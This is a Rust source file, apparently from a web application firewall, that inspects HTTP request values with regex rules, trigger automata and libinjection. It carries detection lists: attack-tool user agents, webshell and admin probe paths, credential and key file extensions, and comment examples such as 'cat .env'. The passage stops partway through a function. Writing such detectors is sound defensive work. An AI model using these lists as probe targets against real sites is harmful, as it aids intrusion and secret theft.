//! Inspection: the rule engine. `walk.rs` hands it every value of a
//! request; each value, made canonical (`normalize.rs`), goes through the
//! trigger automata, the rules' regexes and libinjection; request-level
//! protocol checks come first. Pure: no I/O, no clock, so the corpus test
//! and the benchmark run exactly what the server runs.

use std::borrow::Cow;
use std::sync::{LazyLock, OnceLock};

use aho_corasick::automaton::Automaton;
use aho_corasick::{Anchored, MatchKind};
use http::{HeaderMap, HeaderValue, Method};
use regex::Regex;
use regex::bytes::{Regex as BytesRegex, RegexBuilder};

use crate::clean::CleanCache;
use crate::detect::family_code;
use crate::glob_path::wildcards_under_web_dirs;
use crate::hidden::{code_in_pictures, java_in_base64};
use crate::markdown::{Quoted, command_line_of_block, quoted_code, template_substitutions};
use crate::normalize::{
    Shape, base64_text, canonical, canonical_shaped, resolve_path, shell_unquoted, strings_joined,
    unescape_entities_and_js,
};
use crate::rules::{Category, Part, RULES};
use crate::shell_grammar::unparsable_code_blanked;
use crate::walk::{Context, Visitor, target, values};

/// How many rounds of HTML-entity and JS-escape decoding a value gets.
const ENTITY_ROUNDS: usize = 2;

/// What set the WAF off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Rule id (`sqli-union`, `libinjection-sqli`, `protocol-get-body`...).
    pub rule: &'static str,
    /// Its family.
    pub category: Category,
    /// Which part of the request (`arg`, `header`...).
    pub part: Part,
    /// The argument, header or cookie name, when there is one.
    pub name: String,
    /// The start of the offending value (canonical form, at most 80 chars).
    pub sample: String,
}

impl Finding {
    /// A finding; its name and sample are cut to 80 chars (the audit log
    /// and log lines show them, an attacker chooses them).
    pub(crate) fn new(rule: &'static str, category: Category, part: Part, name: &str, sample: &str) -> Finding {
        Finding {
            rule,
            category,
            part,
            name: cut(name, 80).to_owned(),
            sample: cut(sample, 80).to_owned(),
        }
    }
}

/// A request as the WAF sees it: the head, and the body's first bytes.
pub struct Subject<'a> {
    /// Request method.
    pub method: &'a Method,
    /// Path as sent (still percent-encoded).
    pub path: &'a str,
    /// Query string as sent, without `?`.
    pub query: Option<&'a str>,
    /// Request headers.
    pub headers: &'a HeaderMap,
    /// The first `body_limit` bytes of the body.
    pub body: &'a [u8],
}

/// Which categories run, and which rule ids are off.
#[derive(Debug, Clone, Default)]
pub struct Switches {
    /// Bit set of disabled [`Category`]s.
    pub off_categories: u16,
    /// Disabled rule ids.
    pub off_rules: Vec<String>,
    /// Arguments (lower-case names) whose values run under other switches
    /// (`exclusions[].args`); the rest of the request runs under these.
    pub args: Vec<(String, Switches)>,
    /// CRS rules off for this request (`disabled_rules` and
    /// `exclusions` entries that are CRS rule ids, ranges or families).
    pub crs: crate::seclang::Exclusions,
    /// Read Markdown with quoted code as text about code
    /// (`markdown_prose`, `markdown.rs`): opt-in, since it lets plain
    /// commands quoted in prose through to an app that would run them.
    pub markdown_prose: bool,
    /// What a Markdown value's whole and its code are read under, derived
    /// from the fields above on first use (`Default` is empty).
    pub quoted: QuotedSwitches,
}

/// [`Switches::for_quoted`]'s sets, computed once per config instead
/// of per Markdown value. A clone starts empty: it may be changed before use.
#[derive(Debug, Default)]
pub struct QuotedSwitches(OnceLock<Box<[Switches; 4]>>);

impl Clone for QuotedSwitches {
    fn clone(&self) -> Self {
        QuotedSwitches::default()
    }
}

impl Switches {
    /// The switches for the value of argument `name`.
    pub(crate) fn for_arg(&self, name: &str) -> Option<&Switches> {
        self.args
            .iter()
            .find(|(arg, _)| arg.eq_ignore_ascii_case(name))
            .map(|(_, s)| s)
    }

    /// Whether every rule runs everywhere (what the clean-value cache
    /// needs to vouch for a value).
    pub(crate) fn all_on(&self) -> bool {
        self.off_categories == 0 && self.off_rules.is_empty() && self.args.is_empty() && !self.markdown_prose
    }

    pub(crate) fn on(&self, category: Category, rule: &str) -> bool {
        self.off_categories & category.bit() == 0 && !self.off_rules.iter().any(|r| r == rule)
    }

    /// These switches for a value that is Markdown with quoted code
    /// (`markdown.rs`). For the whole value (`code` false): the families
    /// whose sinks run a whole value as a program (the shell, Node, PHP
    /// but for `<?php`) off, and libinjection's SQL fingerprint, which
    /// reads a value from its start and so takes a quoted snippet for
    /// the query; they read the prose. For the quoted `code`, line by
    /// line: only the shell's rules (but those that judge a whole value
    /// as a command line, which a snippet shown to a reader is) and
    /// `<?php`.
    fn without_program_families(&self, code: bool) -> Switches {
        let mut s = self.without_php_calls();
        if code {
            // The other families read the whole value.
            s.off_categories |= !(Category::Rce.bit() | Category::Php.bit());
            s.off_rules.extend(WHOLE_COMMAND_LINE.iter().map(|id| (*id).to_owned()));
        } else {
            s.off_categories |= Category::Rce.bit() | Category::Nodejs.bit();
            s.off_rules.push("libinjection-sqli".to_owned());
        }
        s
    }

    /// These switches for a value with fenced code blocks, read by
    /// default (`Engine::check_fenced`). For the whole value (`lines`
    /// false): the shell's rules off (they read the rest and each line
    /// of the blocks), PHP's calls and libinjection's fingerprint too, as
    /// for prose; Node's rules stay, since a block is a template literal
    /// to JavaScript and its `${...}` run. For each line of a block: every
    /// shell rule, `<?php`, and `rce-fenced-command`.
    fn for_fence_lines(&self, lines: bool) -> Switches {
        let mut s = self.without_php_calls();
        if lines {
            s.off_categories |= !(Category::Rce.bit() | Category::Php.bit());
            // Bash imports a function from a variable whose value starts
            // with `() {`: the value's start is outside the blocks, and a
            // line of code writes it (`fn main() {`).
            s.off_rules.push("rce-shellshock".to_owned());
        } else {
            s.off_categories |= Category::Rce.bit();
            s.off_rules.push("libinjection-sqli".to_owned());
        }
        s
    }

    /// These switches with PHP's rules off but `<?php`.
    fn without_php_calls(&self) -> Switches {
        let mut s = self.clone();
        let php = RULES
            .iter()
            .filter(|r| r.category == Category::Php && r.id != "php-open-tag")
            .map(|r| r.id)
            .chain(["php-known-function"]);
        s.off_rules.extend(php.map(str::to_owned));
        s
    }

    /// The sets a Markdown value is read under, computed on first use:
    /// with `markdown_prose`, for the whole value and its code
    /// ([`Switches::without_program_families`]); by default, for a value
    /// with fenced blocks and their lines ([`Switches::for_fence_lines`]).
    pub(crate) fn for_quoted(&self) -> [&Switches; 2] {
        let sets = self.quoted_sets();
        if self.markdown_prose {
            [&sets[0], &sets[1]]
        } else {
            [&sets[2], &sets[3]]
        }
    }

    fn quoted_sets(&self) -> &[Switches; 4] {
        self.quoted.0.get_or_init(|| {
            Box::new([
                self.without_program_families(false),
                self.without_program_families(true),
                self.for_fence_lines(false),
                self.for_fence_lines(true),
            ])
        })
    }

    /// A finding of `rule`, unless it is switched off.
    pub(crate) fn finding(
        &self,
        rule: &'static str,
        category: Category,
        part: Part,
        name: &str,
        sample: &str,
    ) -> Option<Finding> {
        self.on(category, rule)
            .then(|| Finding::new(rule, category, part, name, sample))
    }
}

/// The shell rules that ask whether a whole value is a command line
/// (`ls -la`, `pip install x`, `bash run.sh`), not whether a payload sits
/// in it.
const WHOLE_COMMAND_LINE: &[&str] = &[
    "rce-unix-direct",
    "rce-command-line",
    "rce-tool-command",
    "rce-script-run",
    "rce-windows-direct",
    "rce-separator-command",
];

/// The command-injection rules that read no Unix shell's command line
/// (Windows, mail and SQLite sessions, upload names): a backtick piece the
/// shell cannot parse is still theirs to read.
const NOT_UNIX_SHELL: &[&str] = &[
    "rce-windows-for-if",
    "rce-windows-command",
    "rce-windows-direct",
    "rce-powershell",
    "rce-mail-command",
    "rce-sqlite-dot-command",
    "rce-restricted-upload",
];

/// The compiled rule set; built once per plugin instance.
pub struct Engine {
    /// Header values already inspected and found clean.
    pub(crate) clean_values: CleanCache,
    /// Trigger words of the rules for the path, the user agent and
    /// everything else: each scan only looks for words that can matter
    /// where the value came from.
    path_triggers: Triggers,
    agent_triggers: Triggers,
    other_triggers: Triggers,
    regexes: Vec<BytesRegex>,
    probe_paths: BytesRegex,
    restricted_ext: BytesRegex,
    content_type: Regex,
    rfi_params: Regex,
    /// `style="..."` attributes, and what makes one able to run code.
    style_attribute: Regex,
    style_code: Regex,
}

/// User-agent fragments of attack tools (lower case).
const SCANNER_AGENTS: &[&str] = &[
    "havij",
    "nessus",
    "zgrab",
    "nikto",
    "sqlmap",
    "nmap",
    "masscan",
    "acunetix",
    "netsparker",
    "w3af",
    "wpscan",
    "dirbuster",
    "gobuster",
    "dirb/",
    "wfuzz",
    "ffuf",
    "nuclei",
    "openvas",
    "arachni",
    "skipfish",
    "zmeu",
    "morfeus",
    "jaascois",
    "paros",
    "webinspect",
    "appscan",
    "commix",
    "xsser",
    "fimap",
    "sqlninja",
    "webshag",
    "wikto",
    "bsqlbf",
    "blackwidow",
    "black widow",
    "cgichk",
    "absinthe",
    "crimscanner",
    "datacha0s",
    "dotdotpwn",
    "grendel-scan",
    "jbrofuzz",
    "jorgee",
    "mysqloit",
    "n-stealth",
    "nasl",
    "nsauditor",
    "pmafind",
    "springenwerk",
    "teh forest lobster",
    "toata",
    "voideye",
    "webvulnscan",
    "x-scan",
    "brutus",
    "hydra",
    "medusa",
    "pangolin",
    "netlab360",
    "nmap scripting engine",
    "internet ninja",
    "inspath",
    "floodgate",
    "webbandit",
    "vega/",
    "httprint",
    "whatweb",
    "censysinspect",
    "interactsh",
    "jndi",
    "muieblackcat",
    "fuzz faster u fool",
];

/// Rules implemented in code rather than in the rule table, with their
/// families; with `RULES` these are every id `disabled_rules` accepts.
pub const CODE_RULES: &[(&str, Category)] = &[
    ("libinjection-sqli", Category::Sqli),
    ("libinjection-xss", Category::Xss),
    ("java-base64-gadget", Category::Java),
    ("rce-glued-command", Category::Rce),
    ("rce-fenced-command", Category::Rce),
    ("rce-command-line", Category::Rce),
    ("rce-globbed-path", Category::Rce),
    ("sqli-constant-condition", Category::Sqli),
    ("ssrf-internal-address", Category::Ssrf),
    ("xxe-external-entity", Category::Generic),
    ("xxe-entity-expansion", Category::Generic),
    ("php-known-function", Category::Php),
    ("rfi-known-parameter", Category::Rfi),
    ("scanner-user-agent", Category::Scanner),
    ("scanner-probe-path", Category::Scanner),
    ("protocol-nul-byte", Category::Protocol),
    ("protocol-crlf-in-path", Category::Protocol),
    ("protocol-restricted-extension", Category::Protocol),
    ("protocol-proxy-unix-socket", Category::Protocol),
    ("protocol-get-with-body", Category::Protocol),
    ("protocol-bad-content-type", Category::Protocol),
    ("protocol-content-type-smuggling", Category::Protocol),
    ("protocol-duplicate-charset", Category::Protocol),
    ("protocol-bad-charset", Category::Protocol),
    ("protocol-long-accept-encoding", Category::Protocol),
    ("protocol-legacy-cookie", Category::Protocol),
    ("protocol-multipart-name", Category::Protocol),
    ("protocol-duplicate-parameter", Category::Protocol),
    ("protocol-conflicting-content-type", Category::Protocol),
    ("php-code-in-upload", Category::Php),
    ("xss-markup-in-upload", Category::Xss),
    ("java-jndi-in-upload", Category::Java),
];

/// The family of a rule id, or `None` if no rule has that id.
pub fn rule_category(id: &str) -> Option<Category> {
    RULES
        .iter()
        .find(|r| r.id == id)
        .map(|r| r.category)
        .or_else(|| CODE_RULES.iter().find(|(r, _)| *r == id).map(|(_, c)| *c))
}

/// One value (or window of one) and its views, as `check_window` built
/// them once for every reading of it.
#[derive(Clone, Copy)]
struct Value<'v> {
    part: Part,
    name: &'v str,
    /// As sent.
    raw: &'v [u8],
    raw_shape: Shape,
    /// Decoded the way an app reads it (`canonical_shaped`).
    canon: &'v str,
    shape: Shape,
}

/// Largest stretch of a value inspected at once; longer values are
/// inspected in windows of this size.
const MAX_VALUE: usize = 16 * 1024;

/// How much consecutive windows of a long value share, so an attack up to
/// this long is whole in one of them wherever it sits. The step between
/// windows (`MAX_VALUE - WINDOW_OVERLAP`) is a multiple of 4, so a long
/// base64 value is cut on its own boundaries.
const WINDOW_OVERLAP: usize = 1024;

/// Arguments and headers inspected per request, at most.
pub(crate) const MAX_VALUES: usize = 512;

/// What inspecting a request found.
#[derive(Debug)]
pub struct Inspection {
    /// The first finding, if any.
    pub finding: Option<Finding>,
    /// Whether every value was inspected (false past `MAX_VALUES`).
    pub complete: bool,
}

impl Engine {
    /// Compiles the rules. The rules are constants, so a failure is a bug
    /// caught by the tests, not an operator error.
    pub fn new() -> Self {
        assert!(
            RULES.len() < SCANNER_GATE as usize,
            "trigger bit sets hold 125 rules and 3 gates"
        );
        let gates = [(SQL_GATE, SQL_WORDS), (XSS_GATE, &["script:"][..])];
        // ASCII classes and byte matching: canonical values are mostly
        // ASCII, and Unicode-aware `\b`/`\s`/`\w` keep the lazy DFA from
        // running (it falls back to a much slower engine).
        let regexes = RULES.iter().map(|r| ascii_regex(r.pattern)).collect();
        Engine {
            clean_values: CleanCache::new(),
            path_triggers: Triggers::new(|p| p == Part::Path, &[]),
            agent_triggers: Triggers::new(|p| p == Part::UserAgent, &[(SCANNER_GATE, SCANNER_AGENTS)]),
            other_triggers: Triggers::new(|p| p != Part::Path && p != Part::UserAgent, &gates),
            regexes,
            probe_paths: ascii_regex(
                r"^/(?:phpmyadmin|pma|myadmin|mysqladmin|dbadmin|sqladmin)\d*/|^/cgi-bin/(?:php\d?|test-cgi|printenv|bash|sh)\b|^/vendor/phpunit/.*eval-stdin\.php|^/_ignition/execute-solution|^/(?:hnap1|boaform|wls-wsat|solr/admin/cores|actuator/(?:env|heapdump|gateway))\b|^/(?:shell|cmd|c99|r57|wso|b374k|alfa)\.php$|^/manager/html$|^/jmx-console|^/invoker/jmxinvokerservlet|^/console/(?:css|login)/.*\.portal",
            )
            ,
            restricted_ext: ascii_regex(
                r"\.(?:bak|backup|old|orig|original|save|swp|swo|tmp|temp|sql|sqlite3?|db|dbf|mdb|accdb|rdb|ldb|mdf|ldf|log|ini|conf|cnf|cfg|config|dat|inc|pol|sys|dll|exe|bat|cmd|ps1|vbs|vbe|wsf|cer|crt|key|pem|pfx|p12|jks|keystore|asa|asax|ascx|axd|backup|cs|csproj|vb|vbproj|resources|resx|idq|printer|htr|htw|ida|lnk|licx|rem|dist|kdbx|ovpn|npmrc|history|passwd|pwd|pass|secret|env|yml|yaml|toml|lock|git|svn|hg)$|[^/]\.\w+~(?:/|$)|~$|\.(?:php|asp|aspx|jsp|cgi|pl|py)\.(?:bak|old|orig|save|swp|txt|tmp|\d+)$",
            )
            ,
            rfi_params: Regex::new(
                r"^(?:mosconfig_absolute_path|_conf\[path\]|_server\[document_root\]|gallery_basedir|path\[docroot\]|appserv_root|config\[root_dir\]|phpbb_root_path|include_path|base_?path|root_?path|abs_?path|dir_?path|template_?path|lang_?path)$",
            )
            .expect("rfi parameters compile"),
            style_attribute: Regex::new(r#"\bstyle\s*=\s*(?:"[^"]*"|'[^']*')"#).expect("style attribute compiles"),
            style_code: Regex::new(r"expression|url\s*\(|script|binding|behavior|@import|\\|&#|/\*")
                .expect("style code compiles"),
            content_type: Regex::new(
                r#"^[\w!#$&^.+-]+/[\w!#$&^.+*-]+(?:\s*;\s*[\w!#$&^.+-]+=(?:"[^"]*"|[^\s;"]+))*\s*;?\s*$"#,
            )
            .expect("content type compiles"),
        }
    }

    /// Inspects one request; the first finding wins.
    pub fn inspect(&self, req: &Subject<'_>, on: &Switches) -> Option<Finding> {
        self.inspect_whole(req, on).finding
    }

    /// Inspects one request, and says whether every value was inspected:
    /// past `MAX_VALUES` values the rest are not, and what was not seen
    /// may be the attack.
    pub fn inspect_whole(&self, req: &Subject<'_>, on: &Switches) -> Inspection {
        // A bodiless request with the method and headers of this thread's
        // last clean one (a browser's keep-alive connection sends the same
        // head page after page) is one comparison of them: the protocol
        // checks and the headers' values depend on nothing else (with
        // every rule on, the only verdicts kept), so only its path and
        // query are left to inspect.
        let clean = self.clean_values.local();
        let bodiless = req.body.is_empty() && on.all_on();
        if bodiless && let Some(json_request) = clean.clean_head_flag(req.method, req.headers) {
            let mut visitor = Visitor::new(self, on, json_request, clean);
            target(req, &mut visitor);
            return Inspection {
                complete: !visitor.skipped,
                finding: visitor.found,
            };
        }
        let notable = Notable::of(req.headers);
        if let Some(f) = self.protocol(req, &notable, on) {
            return Inspection {
                finding: Some(f),
                complete: true,
            };
        }
        let json_request = notable
            .content_type
            .is_some_and(|ct| ct.to_ascii_lowercase().contains("json"));
        let mut visitor = Visitor::new(self, on, json_request, clean);
        values(req, &mut visitor);
        if bodiless && visitor.found.is_none() && !visitor.skipped {
            clean.keep_clean_head(json_request, req.method, req.headers);
        }
        Inspection {
            complete: !visitor.skipped,
            finding: visitor.found,
        }
    }

    /// Checks one value as sent (`raw`) in every decoded form an
    /// application might see: canonical, then HTML entities and JS
    /// escapes resolved, then base64 (for values that are base64).
    /// A value longer than `MAX_VALUE` is checked in overlapping windows,
    /// so an attack past its first `MAX_VALUE` bytes is seen too.
    pub(crate) fn check(&self, part: Part, name: &str, raw: &[u8], plus: bool, cx: &Context<'_>) -> Option<Finding> {
        if part == Part::Arg
            && let Some(on) = cx.on.for_arg(name)
        {
            let cx = cx.with(on);
            return self.check(part, name, raw, plus, &cx);
        }
        if raw.len() <= MAX_VALUE {
            return self.check_window(part, name, raw, plus, cx);
        }
        let step = MAX_VALUE - WINDOW_OVERLAP;
        let mut start = 0;
        loop {
            let end = (start + MAX_VALUE).min(raw.len());
            if let Some(f) = self.check_window(part, name, &raw[start..end], plus, cx) {
                return Some(f);
            }
            if end == raw.len() {
                return None;
            }
            start += step;
        }
    }

    /// [`Engine::check`] on at most `MAX_VALUE` bytes.
    fn check_window(&self, part: Part, name: &str, raw: &[u8], plus: bool, cx: &Context<'_>) -> Option<Finding> {
        if raw.is_empty() {
            return None;
        }
        let raw_shape = Shape::of(raw);
        let (mut canon, mut shape) = canonical_shaped(raw, raw_shape, plus);
        // Pictures are pasted into bodies (an editor's image, an avatar),
        // not into query strings or cookies, where a `data:` picture is a
        // file to include (`?page=data:image/png;base64,…`). A parameter
        // that names a file to include keeps its pictures, and so does a
        // picture that carries code: PHP's `data:` wrapper runs it.
        if matches!(part, Part::Arg | Part::Body)
            && !cx.in_query
            && raw.len() > 64
            && shape.has(Shape::SEMICOLON)
            && let Some(rest) = pictures_blanked(&canon)
            && !self.rfi_params.is_match(name)
            && !code_in_pictures(raw)
        {
            shape = Shape::of(rest.as_bytes());
            canon = Cow::Owned(rest);
        }
        let v = Value {
            part,
            name,
            raw,
            raw_shape,
            canon: &canon,
            shape,
        };
        if matches!(part, Part::Arg | Part::Body)
            && shape.has(Shape::BACKTICK)
            && let Some(quoted) = quoted_code(&canon)
        {
            if cx.on.markdown_prose {
                return self.check_quoted(&v, &quoted, cx);
            }
            if !quoted.fenced.is_empty() {
                return self.check_fenced(&v, &quoted, cx);
            }
        }
        self.check_views(&v, cx)
    }

    /// A value that is Markdown prose with quoted code (`markdown.rs`):
    /// the families that run a value as a program (the shell, Node, PHP)
    /// read its prose, and its code only with the rules that find a
    /// payload wherever it sits; the other families read the whole value.
    fn check_quoted(&self, v: &Value<'_>, quoted: &Quoted<'_>, cx: &Context<'_>) -> Option<Finding> {
        let [whole, code] = cx.on.for_quoted();
        let whole = cx.with(whole);
        if let Some(f) = self.check_views(v, &whole) {
            return Some(f);
        }
        if let Some(f) = self.check_text(v.part, v.name, &quoted.prose, cx) {
            return Some(f);
        }
        // Quoted code is a template literal to JavaScript: its `${...}`
        // run, so every rule reads them.
        if let Some(f) = quoted
            .code
            .iter()
            .flat_map(|piece| template_substitutions(piece))
            .find_map(|expr| self.check_text(v.part, v.name, expr, cx))
        {
            return Some(f);
        }
        let code = cx.with(code);
        // A fenced block's lines are command lines shown one by one: the
        // line break between two of them is no separator written into a value.
        quoted
            .code
            .iter()
            .flat_map(|piece| piece.lines())
            .find_map(|line| self.check_text(v.part, v.name, line, &code))
    }

    /// A value with fenced code blocks (```` ```js ```` … ```` ``` ````),
    /// read by default: a fence is Markdown, not the shell's backtick, so
    /// the shell's rules read the rest of the value as it is (its code
    /// spans too, which a shell would run) and each line of a block on
    /// its own, where a line that is a command line is refused
    /// (`rce-fenced-command`: `id`, `ps aux`, `cat .env`); the other
    /// families read the whole value (PHP's calls and libinjection's
    /// fingerprint only outside the blocks).
    fn check_fenced(&self, v: &Value<'_>, quoted: &Quoted<'_>, cx: &Context<'_>) -> Option<Finding> {
        let [whole, lines] = cx.on.for_quoted();
        let whole = cx.with(whole);
        if let Some(f) = self.check_views(v, &whole) {
            return Some(f);
        }
        let outside = Value {
            part: v.part,
            name: v.name,
            raw: quoted.outside.as_bytes(),
            raw_shape: Shape::of(quoted.outside.as_bytes()),
            canon: &quoted.outside,
            shape: Shape::of(quoted.outside.as_bytes()),
        };
        if let Some(f) = self.check_views(&outside, cx) {
            return Some(f);
        }
        let lines = cx.with(lines);
        quoted.fenced.iter().flat_map(|block| block.lines()).find_map(|line| {
            self.check_text(v.part, v.name, line, &lines).or_else(|| {
                (lines.on.on(Category::Rce, "rce-fenced-command") && command_line_of_block(line))
                    .then(|| Finding::new("rce-fenced-command", Category::Rce, v.part, v.name, line))
            })
        })
    }

    /// The canonical checks of a text already canonical: as it is, as
    /// the shell joins it, and the code detectors.
    fn check_text(&self, part: Part, name: &str, text: &str, cx: &Context<'_>) -> Option<Finding> {
        let shape = Shape::of(text.as_bytes());
        if let Some(f) = self.check_canonical(part, name, text, shape, true, cx) {
            return Some(f);
        }
        if let Some(unquoted) = shell_unquoted(text, shape)
            && let Some(f) = self.check_canonical(part, name, &unquoted, Shape::of(unquoted.as_bytes()), false, cx)
        {
            return Some(f);
        }
        family_code(part, name, text, shape, cx.on)
    }

    /// Every view of one value: canonical, as the shell joins it, the
    /// code detectors, entities and escapes undone, base64.
    fn check_views(&self, v: &Value<'_>, cx: &Context<'_>) -> Option<Finding> {
        let Value {
            part,
            name,
            raw,
            raw_shape,
            canon,
            shape,
        } = *v;
        if let Some(f) = self.check_canonical(part, name, canon, shape, true, cx) {
            return Some(f);
        }
        if let Some(unquoted) = shell_unquoted(canon, shape)
            && let Some(f) = self.check_canonical(part, name, &unquoted, Shape::of(unquoted.as_bytes()), false, cx)
        {
            return Some(f);
        }
        // Code lands in arguments, cookies and bodies; a browser's
        // headers are full of quotes (`sec-ch-ua`) and join nothing.
        if matches!(part, Part::ArgName | Part::Arg | Part::Cookie | Part::Body)
            && let Some(joined) = strings_joined(canon, shape)
            && let Some(f) = self.check_canonical(part, name, &joined, Shape::of(joined.as_bytes()), false, cx)
        {
            return Some(f);
        }
        if let Some(f) = family_code(part, name, canon, shape, cx.on) {
            return Some(f);
        }
        // Twice: `&amp;lpar;` is `(` to a page that decodes what its
        // template already decoded once.
        let mut view = unescape_entities_and_js(canon, shape);
        for _ in 0..ENTITY_ROUNDS {
            let Some(decoded) = view else { break };
            let decoded_shape = Shape::of(decoded.as_bytes());
            if let Some(f) = self.check_canonical(part, name, &decoded, decoded_shape, true, cx) {
                return Some(f);
            }
            view = unescape_entities_and_js(&decoded, decoded_shape).filter(|again| *again != decoded);
        }
        // Base64 has both cases; a value without them holds none.
        if raw_shape.has(Shape::UPPER)
            && raw_shape.has(Shape::LOWER)
            && !matches!(part, Part::Path | Part::UserAgent)
            && cx.on.on(Category::Java, "java-base64-gadget")
            && java_in_base64(raw)
        {
            let sample = String::from_utf8_lossy(raw);
            return Some(Finding::new("java-base64-gadget", Category::Java, part, name, &sample));
        }
        if let Some(decoded) = base64_text(raw, raw_shape) {
            let (canon, shape) = canonical_shaped(decoded.as_bytes(), Shape::of(decoded.as_bytes()), false);
            return self.check_canonical(part, name, &canon, shape, true, cx);
        }
        // Base64 behind JS escapes (`\u0058\u0079QkTk...`): the escapes
        // undone with the letters' case kept, which base64 needs.
        if raw_shape.has(Shape::BACKSLASH)
            && let Ok(text) = std::str::from_utf8(raw)
            && let Some(unescaped) = unescape_entities_and_js(text, raw_shape)
            && let Some(decoded) = base64_text(unescaped.as_bytes(), Shape::of(unescaped.as_bytes()))
        {
            let (canon, shape) = canonical_shaped(decoded.as_bytes(), Shape::of(decoded.as_bytes()), false);
            return self.check_canonical(part, name, &canon, shape, true, cx);
        }
        None
    }

    /// Whether shell rule `i`, which matched `value`, matched only in
    /// backtick pieces the shell cannot parse (`shell_grammar.rs`). Out of
    /// line: it runs only after a match, and the rule loop stays small.
    #[cold]
    #[inline(never)]
    fn only_in_code_the_shell_cannot_parse(&self, i: usize, value: &str) -> bool {
        !NOT_UNIX_SHELL.contains(&RULES[i].id)
            && unparsable_code_blanked(value).is_some_and(|parsable| !self.regexes[i].is_match(parsable.as_bytes()))
    }

    /// Runs the rules that apply to one canonical value of that shape.
    /// `as_sent`: the value is what a shell would be given (not a view
    /// with quotes undone or strings joined), so what the shell cannot
    /// parse in it runs nothing ([`unparsable_code_blanked`]).
    fn check_canonical(
        &self,
        part: Part,
        name: &str,
        value: &str,
        shape: Shape,
        as_sent: bool,
        cx: &Context<'_>,
    ) -> Option<Finding> {
        let on = cx.on;
        let value = cut(value, MAX_VALUE);
        if value.is_empty() {
            return None;
        }
        let hit = |rule: &'static str, category| Some(Finding::new(rule, category, part, name, value));
        let triggers = match part {
            Part::Path => &self.path_triggers,
            Part::UserAgent => &self.agent_triggers,
            _ => &self.other_triggers,
        };
        let gates = triggers.scan(value.as_bytes());
        let mut woken = gates & !(1 << SQL_GATE | 1 << XSS_GATE | 1 << SCANNER_GATE);
        while woken != 0 {
            let i = woken.trailing_zeros() as usize;
            woken &= woken - 1;
            let rule = &RULES[i];
            if rule.parts.has(part)
                && on.on(rule.category, rule.id)
                && !(cx.json_request && rule.id == "protocol-unicode-escape")
                && self.regexes[i].is_match(value.as_bytes())
                && !(rule.id == "rce-glob-path" && wildcards_under_web_dirs(value))
                && !(as_sent && rule.category == Category::Rce && self.only_in_code_the_shell_cannot_parse(i, value))
                && !(rule.id == "xss-dom"
                    && timers_given_functions(value).is_some_and(|rest| !self.regexes[i].is_match(rest.as_bytes())))
            {
                return hit(rule.id, rule.category);
            }
        }
        match part {
            Part::UserAgent if on.on(Category::Scanner, "scanner-user-agent") && gates & 1 << SCANNER_GATE != 0 => {
                return hit("scanner-user-agent", Category::Scanner);
            }
            Part::Arg
                if on.on(Category::Rfi, "rfi-known-parameter")
                    && value.as_bytes().windows(3).any(|w| w == b"://")
                    && self.rfi_params.is_match(name) =>
            {
                return hit("rfi-known-parameter", Category::Rfi);
            }
            Part::Path => {
                return (shape.has(Shape::QUOTE | Shape::PLUS | Shape::BLANK_OR_PAREN)
                    && on.on(Category::Sqli, "libinjection-sqli")
                    && path_sqli(value))
                .then(|| Finding::new("libinjection-sqli", Category::Sqli, part, name, value));
            }
            _ => {}
        }
        // A browser's user agent is full of `;` and `()`: tokenize it only
        // when it carries a quote or markup.
        let agent = matches!(part, Part::UserAgent);
        let marks = Marks::of(shape);
        if on.on(Category::Sqli, "libinjection-sqli")
            && (if agent {
                shape.has(Shape::QUOTE)
            } else {
                gates & 1 << SQL_GATE != 0 || marks.sql
            })
            && libinjection_sqli(value)
        {
            return hit("libinjection-sqli", Category::Sqli);
        }
        if on.on(Category::Xss, "libinjection-xss")
            && (if agent {
                value.contains('<')
            } else {
                gates & 1 << XSS_GATE != 0 || marks.xss
            })
            && libinjectionrs::detect_xss(value.as_bytes()).is_injection()
            && self
                .harmless_styles_removed(value)
                .is_none_or(|rest| libinjectionrs::detect_xss(rest.as_bytes()).is_injection())
        {
            return hit("libinjection-xss", Category::Xss);
        }
        None
    }

    /// The value without its `style="..."` attributes when none of them
    /// can run code (no `expression(`, `url(`, `javascript:`, bindings,
    /// `@import`, escapes): libinjection refuses every `style=`, which rich
    /// text editors write on every paragraph. `None` when there are none.
    fn harmless_styles_removed(&self, value: &str) -> Option<String> {
        if !value.contains("style") {
            return None;
        }
        let mut harmful = false;
        let rest = self.style_attribute.replace_all(value, |c: &regex::Captures<'_>| {
            harmful |= self.style_code.is_match(&c[0]);
            " "
        });
        (!harmful && rest.len() != value.len()).then(|| rest.into_owned())
    }

    /// The path's protocol checks (NUL bytes, line breaks, restricted
    /// file extensions, scanner probe paths); they depend on the path
    /// alone, so a path found clean is not checked again.
    pub(crate) fn protocol_path(&self, raw: &str, on: &Switches) -> Option<Finding> {
        let finding =
            |rule: &'static str, category: Category, sample: &str| on.finding(rule, category, Part::Path, "", sample);
        let p = Category::Protocol;
        if contains_ci(raw, "%00") {
            return finding("protocol-nul-byte", p, raw);
        }
        let path = canonical(raw.as_bytes(), false);
        if path.contains(['\r', '\n']) {
            return finding("protocol-crlf-in-path", p, &path);
        }
        // Already resolved unless it has dot segments, backslashes or `//`.
        let resolved = if path.contains(['.', '\\']) || path.as_bytes().windows(2).any(|w| w == b"//") {
            Cow::Owned(resolve_path(&path))
        } else {
            Cow::Borrowed(&*path)
        };
        if path.contains(['.', '~'])
            && (self.restricted_ext.is_match(resolved.as_bytes()) || self.restricted_ext.is_match(path.as_bytes()))
        {
            return finding("protocol-restricted-extension", p, &path);
        }
        if self.probe_paths.is_match(resolved.as_bytes()) {
            return finding("scanner-probe-path", Category::Scanner, &resolved);
        }
        None
    }

    /// The query string's protocol checks (NUL bytes, a proxy's unix
    /// socket syntax); like the path's, they ride on its clean entry.
    pub(crate) fn protocol_query(&self, query: &str, on: &Switches) -> Option<Finding> {
        let finding = |rule: &'static str, part: Part| on.finding(rule, Category::Protocol, part, "", query);
        if contains_ci(query, "%00") {
            return finding("protocol-nul-byte", Part::Path);
        }
        if contains_ci(query, "unix:") && query.contains('|') {
            return finding("protocol-proxy-unix-socket", Part::Arg);
        }
        None
    }

    /// Request-level protocol checks: things no single value shows.
    fn protocol(&self, req: &Subject<'_>, headers: &Notable<'_>, on: &Switches) -> Option<Finding> {
        let p = Category::Protocol;

        let has_body = !req.body.is_empty() || text(headers.content_length).is_some_and(|n| n.trim() != "0");
        if has_body && (req.method == Method::GET || req.method == Method::HEAD) {
            return on.finding("protocol-get-with-body", p, Part::Body, "", "");
        }
        if headers.conflicting_content_type {
            let ct = headers.content_type.unwrap_or("");
